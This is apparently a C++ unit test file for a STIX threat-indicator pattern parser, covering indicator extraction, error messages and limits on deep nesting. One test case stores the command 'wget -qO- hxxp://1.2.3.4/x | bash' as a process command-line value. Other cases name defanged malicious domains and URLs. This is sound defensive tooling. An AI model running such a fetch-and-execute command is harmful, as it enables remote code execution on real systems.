#include "loupe/formats/stix/stix_pattern.h"

#include <string>
#include <vector>

#include "gtest/gtest.h"
#include "loupe/base/testing.h"

namespace loupe {
namespace {

using ::loupe::testing::StatusIs;
using ::testing::HasSubstr;

// What a pattern names, rendered "type:value" in order; rejected values as "!reason".
std::vector<std::string> Names(std::string_view pattern) {
  std::vector<std::string> out;
  auto comparisons = ParseStixPattern(pattern);
  if (!comparisons.ok()) return {"error: " + std::string(comparisons.status().message())};
  for (const auto& c : *comparisons) {
    auto ind = IndicatorFromComparison(c);
    if (!ind.ok()) {
      out.push_back("!" + std::string(ind.status().message()));
    } else if (*ind) {
      out.push_back(std::string(IndicatorTypeName((*ind)->type)) + ":" + (*ind)->value);
    }
  }
  return out;
}

struct NameCase {
  std::string pattern;
  std::vector<std::string> names;
};

TEST(StixPatternTest, NamesWhatEqualityComparisonsSay) {
  const std::string sha256 = "aec070645fe53ee3b3763059376134f058cc337247c978add178b6ccdfb0019f";
  const std::string md5 = "cead3f77f6cda6ec00f57d76c9a6879f";
  const std::string sha1 = "3f786850e387550fdab836ed7e6dc881de23001b";
  const NameCase cases[] = {
      {"[ipv4-addr:value = '1.2.3.4']", {"ipv4:1.2.3.4"}},
      {"[ipv4-addr:value == '1.2.3.4']", {"ipv4:1.2.3.4"}},
      {"[ipv4-addr:value = '198.51.100.0/24']", {"network:198.51.100.0/24"}},
      {"[ipv4-addr:value = '198.51.100.7/32']", {"ipv4:198.51.100.7"}},
      {"[ipv6-addr:value = '2001:DB8:0:0::1']", {"ipv6:2001:db8::1"}},
      {"[domain-name:value = 'EVIL.example.com']", {"domain:evil.example.com"}},
      {"[domain-name:value = 'evil[.]com']", {"domain:evil.com"}},
      {"[url:value = 'hxxp://172.233.228[.]93/patch']", {"url:http://172.233.228.93/patch"}},
      {"[file:hashes.MD5 = '" + md5 + "']", {"md5:" + md5}},
      {"[file:hashes.'SHA-1' = '" + sha1 + "']", {"sha1:" + sha1}},
      {"[file:hashes.'SHA-256' = '" + sha256 + "']", {"sha256:" + sha256}},
      {"[file:hashes.sha256 = '" + sha256 + "']", {"sha256:" + sha256}},
      {"[file:hashes.SHA-256 = '" + sha256 + "']", {"sha256:" + sha256}},
      {"[file:hashes.sha_1 = '" + sha1 + "']", {"sha1:" + sha1}},
      {"[file:hashes.'SHA-512' = 'abcd']", {}},
      {"[file:name = 'invoice.exe']", {}},
      {"[email-addr:value = 'a@example.com']", {}},
      {"[process:command_line = 'wget -qO- hxxp://1.2.3.4/x | bash']", {}},
      {"[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = "
       "'203.0.113.33/32']",
       {"ipv4:203.0.113.33"}},
      {"[network-traffic:src_ref.value = 'c2.example.net']", {"domain:c2.example.net"}},
      // Only '=' names something; negation, other operators and sets do not.
      {"[ipv4-addr:value != '1.2.3.4']", {}},
      {"[ipv4-addr:value <> '1.2.3.4']", {}},
      {"[ipv4-addr:value NOT = '1.2.3.4']", {}},
      {"[domain-name:value LIKE '%.example.com']", {}},
      {"[domain-name:value MATCHES '^evil']", {}},
      {"[ipv4-addr:value ISSUBSET '10.0.0.0/8']", {}},
      {"[ipv4-addr:value IN ('1.2.3.4', '5.6.7.8')]", {}},
      {"[ipv4-addr:value = 42]", {}},
      {"[domain-name:resolves_to_refs[*].value = '198.51.100.1']", {}},
      // AND, OR, parentheses, several observations, qualifiers.
      {"[url:value = 'http://example.com/foo' OR url:value = 'http://example.com/bar']",
       {"url:http://example.com/foo", "url:http://example.com/bar"}},
      {"[file:hashes.'SHA-256' = '" + sha256 + "' OR file:hashes.MD5 = '" + md5 +
           "'] AND [domain-name:value = 'a.example.org']",
       {"sha256:" + sha256, "md5:" + md5, "domain:a.example.org"}},
      {"([ipv4-addr:value = '1.2.3.4'] FOLLOWEDBY [ipv4-addr:value = '5.6.7.8']) WITHIN 300 "
       "SECONDS",
       {"ipv4:1.2.3.4", "ipv4:5.6.7.8"}},
      {"[ipv4-addr:value = '1.2.3.4'] REPEATS 5 TIMES WITHIN 1800 SECONDS", {"ipv4:1.2.3.4"}},
      {"[ipv4-addr:value = '1.2.3.4'] START t'2016-06-01T00:00:00Z' STOP "
       "t'2016-07-01T00:00:00Z'",
       {"ipv4:1.2.3.4"}},
      {"[ipv4-addr:value = '1.2.3.4'] start '2016-06-01T00:00:00Z' stop '2016-07-01T00:00:00Z'",
       {"ipv4:1.2.3.4"}},
      {"[(ipv4-addr:value = '1.2.3.4' OR ipv4-addr:value = '1.2.3.5') AND "
       "ipv4-addr:value != '1.2.3.6']",
       {"ipv4:1.2.3.4", "ipv4:1.2.3.5"}},
      {"[domain-name:value = 'a.example.com' and domain-name:value = 'b.example.com']",
       {"domain:a.example.com", "domain:b.example.com"}},
      // Escapes: \' and \\; any other backslash stays.
      {R"([url:value = 'http://example.com/it\'s'])", {"url:http://example.com/it's"}},
      {R"([windows-registry-key:key = 'HKCU\\Software\\Run'])", {}},
      // Brackets inside strings are text.
      {"[url:value = 'https://fe.xrqo8.ru.com/[.]well-known/acme-challenge/']",
       {"url:https://fe.xrqo8.ru.com/.well-known/acme-challenge/"}},
      // Literals of every kind parse (and name nothing).
      {"[file:size > 1024 AND file:mime_type = 'image/bmp' AND file:magic_number_hex = h'ffd8' "
       "AND file:created = t'2014-01-13T07:03:17Z' AND artifact:payload_bin = b'AAAA' AND "
       "x-custom:flag = true AND file:extensions.'windows-pebinary-ext'.sections[*].entropy >= "
       "7.0 AND x-thing:list[0] <= -1 AND EXISTS file:name]",
       {}},
      // Values that are bad for their path are rejected one by one.
      {"[ipv4-addr:value = '999.1.1.1' OR ipv4-addr:value = '1.1.1.1']",
       {"!ipv4-addr:value: not a valid IPv4: octet 999 is out of range", "ipv4:1.1.1.1"}},
      {"[file:hashes.MD5 = '" + sha256 + "']",
       {"!file:hashes.MD5: not a valid md5: '" + sha256 + "' is sha256"}},
      {"[ipv4-addr:value = '2001:db8::/32']",
       {"!ipv4-addr:value: not a valid ipv4 network: '2001:db8::/32' is IPv6"}},
  };
  for (const NameCase& c : cases) {
    EXPECT_EQ(Names(c.pattern), c.names) << c.pattern;
  }
}

TEST(StixPatternTest, KeepsComparisonDetails) {
  auto c = ParseStixPattern(R"([file:hashes.'SHA-256' NOT = 'x\\y' OR url:value LIKE 'a'])");
  ASSERT_OK(c);
  ASSERT_EQ(c->size(), 2u);
  EXPECT_EQ((*c)[0].object_type, "file");
  EXPECT_EQ((*c)[0].path, (std::vector<std::string>{"hashes", "SHA-256"}));
  EXPECT_TRUE((*c)[0].negated);
  EXPECT_TRUE((*c)[0].string_value);
  EXPECT_EQ((*c)[0].value, "x\\y");
  EXPECT_EQ((*c)[1].op, PatternOp::kLike);
  EXPECT_EQ(PatternPathText((*c)[0]), "file:hashes.SHA-256");
}

struct BadCase {
  std::string pattern;
  std::string reason;
};

TEST(StixPatternTest, RejectsMalformedPatternsWithAReason) {
  const BadCase cases[] = {
      {"", "empty pattern"},
      {"   ", "empty pattern"},
      {"[ipv4-addr:value = '1.2.3.4'", "expected ']' at offset 28"},
      {"ipv4-addr:value = '1.2.3.4']", "expected '[' or '(', found 'ipv4-addr' at offset 0"},
      {"[ipv4-addr:value = '1.2.3.4']]",
       "expected AND, OR, FOLLOWEDBY or the end, found ']' at offset 29"},
      {"[ipv4-addr:value = '1.2.3.4]", "unterminated string at offset 19"},
      {R"([url:value = 'a\'])", "unterminated string at offset 13"},
      {"[ipv4-addr:value = 1.2.3.4]", "expected ']', found '.3' at offset 22"},
      {"[ipv4-addr:value '1.2.3.4']",
       "expected a comparison operator, found '1.2.3.4' at offset 17"},
      {"[ipv4-addr = '1.2.3.4']", "expected ':' after the object type, found '=' at offset 11"},
      {"[ipv4-addr:value = '1.2.3.4'] OR", "expected '[' or '(' at offset 32"},
      {"[ipv4-addr:value = '1.2.3.4'] WITHIN SECONDS",
       "expected a number after WITHIN, found 'SECONDS' at offset 37"},
      {"[a:b = 'c'] REPEATS 5", "expected TIMES at offset 21"},
      {"[a:b = 'c'] XOR [a:b = 'd']",
       "expected AND, OR, FOLLOWEDBY or the end, found 'XOR' at offset 12"},
      {"[a:b ! 'c']", "'!' without '=' at offset 5"},
      {"[a:b = 'c' ; ]", "unexpected ';' at offset 11"},
      {std::string("[a:b = 'c'] \x01"), "unexpected byte 0x01 at offset 12"},
      {"[a:b IN ('c' 'd')]", "expected ',' or ')', found 'd' at offset 13"},
      {"[a:b[x] = 'c']", "expected a list index or '*', found 'x' at offset 5"},
      {"[a:b MATCHES h'00']", "expected a string after MATCHES, found '00' at offset 13"},
      {"[]", "expected an object type, found ']' at offset 1"},
      {"()", "expected '[' or '(', found ')' at offset 1"},
  };
  for (const BadCase& c : cases) {
    auto r = ParseStixPattern(c.pattern);
    EXPECT_THAT(r, StatusIs(absl::StatusCode::kInvalidArgument, c.reason)) << c.pattern;
  }
}

TEST(StixPatternTest, HostilePatternsFailWithoutDeepRecursion) {
  // 10k nested parentheses, both around observations and inside a comparison.
  std::string deep_obs = std::string(10000, '(') + "[a:b = 'c']" + std::string(10000, ')');
  EXPECT_THAT(ParseStixPattern(deep_obs),
              StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("nested deeper than 64")));
  std::string deep_cmp =
      "[" + std::string(10000, '(') + "a:b = 'c'" + std::string(10000, ')') + "]";
  EXPECT_THAT(ParseStixPattern(deep_cmp),
              StatusIs(absl::StatusCode::kInvalidArgument, HasSubstr("nested deeper than 64")));
  // Unbalanced the other way.
  EXPECT_THAT(ParseStixPattern(std::string(10000, '[')),
              StatusIs(absl::StatusCode::kInvalidArgument));
  EXPECT_THAT(ParseStixPattern(std::string(10000, ']')),
              StatusIs(absl::StatusCode::kInvalidArgument));
  // 63 levels are fine.
  std::string ok = std::string(62, '(') + "[a:b = 'c']" + std::string(62, ')');
  EXPECT_OK(ParseStixPattern(ok));
  // Too long.
  std::string big = "[url:value = 'http://example.com/" + std::string(70000, 'a') + "']";
  EXPECT_THAT(ParseStixPattern(big),
              StatusIs(absl::StatusCode::kInvalidArgument, "pattern longer than 65536 bytes"));
}

TEST(StixPatternTest, AddressesAndHashNames) {
  EXPECT_EQ(ParseStixAddress(IndicatorType::kIpv6, "2001:db8::1/128")->value, "2001:db8::1");
  EXPECT_EQ(ParseStixAddress(IndicatorType::kIpv4, "10.1.2.3/8")->value, "10.0.0.0/8");
  EXPECT_FALSE(ParseStixAddress(IndicatorType::kIpv4, "::1").ok());
  EXPECT_EQ(HashTypeFromName("SHA-256"), IndicatorType::kSha256);
  EXPECT_EQ(HashTypeFromName("Sha1"), IndicatorType::kSha1);
  EXPECT_EQ(HashTypeFromName("md5"), IndicatorType::kMd5);
  EXPECT_EQ(HashTypeFromName("SHA3-256"), std::nullopt);
  EXPECT_EQ(HashTypeFromName("SSDEEP"), std::nullopt);
}

}  // namespace
}  // namespace loupe
